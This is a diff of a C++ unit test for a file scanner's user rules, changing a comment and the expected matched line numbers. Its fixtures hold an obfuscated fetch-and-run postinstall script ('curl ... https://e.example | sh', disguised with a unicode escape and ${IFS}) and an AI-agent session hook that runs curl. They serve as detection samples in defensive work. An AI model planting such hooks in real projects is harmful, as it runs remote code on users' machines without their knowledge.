@@ -222,8 +222,7 @@ TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
 }
 
 // A user rule that targets one view (`view == "..."`) fires on a file whose raw bytes do not hold the
-// text it looks for; its line carries the rule's description and, where the view keeps the file's
-// lines, the line it matched on.
+// text it looks for; its line carries the rule's description and the file's line it matched on.
 TEST_F(RulesLoading, UserRulesOnEachViewFire)
 {
     struct Row
@@ -250,14 +249,14 @@ TEST_F(RulesLoading, UserRulesOnEachViewFire)
          ".claude/settings.json",
          R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
          "a hook",
-         {}},
+         {1}},
         {"user_commands",
          "commands",
          "npm.postinstall: curl -fsSL",
          "pkg/package.json",
          R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
          nullptr,
-         {}},
+         {1}},
     };
     std::string rules;
     for (const auto& row : rows) {
